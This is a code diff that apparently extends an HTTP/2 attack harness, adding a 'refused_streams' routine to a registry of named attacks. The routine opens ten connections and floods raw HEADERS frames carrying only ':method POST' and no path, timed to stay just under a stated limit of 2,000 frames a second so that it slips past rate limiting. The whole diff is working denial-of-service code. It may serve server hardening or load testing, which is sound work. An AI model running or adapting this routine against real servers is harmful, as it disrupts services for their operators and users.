@@ -257,6 +257,29 @@ def unfinished_heads(attacker: Attacker) -> None:
     attacker.hold()
 
 
+def refused_streams(attacker: Attacker) -> None:
+    """Send heads without a path on ten connections, each below the permitted 2,000 frames a second."""
+    connections = [attacker.connect() for _ in range(10)]
+    period, count = 0.05, 90
+    while attacker.running and connections:
+        next_at = time.monotonic() + period
+        for connection in list(connections):
+            first = connection.next_stream
+            connection.next_stream += 2 * count
+            heads = [
+                b"\0\0\1\1\4" + number.to_bytes(4, "big") + b"\x83"  # :method POST alone
+                for number in range(first, connection.next_stream, 2)
+            ]
+            try:
+                connection.send(*heads)
+                connection.discard_received()
+                attacker.counts["streams"] += count
+            except OSError:
+                connections.remove(connection)
+                attacker.counts["closed"] += 1
+        time.sleep(max(0.0, next_at - time.monotonic()))
+
+
 ATTACKS: dict[str, Callable[[Attacker], None]] = {
     attack.__name__: attack
     for attack in (
@@ -269,6 +292,7 @@ ATTACKS: dict[str, Callable[[Attacker], None]] = {
         unread_responses,
         unread_acknowledgements,
         unfinished_heads,
+        refused_streams,
     )
 }
 
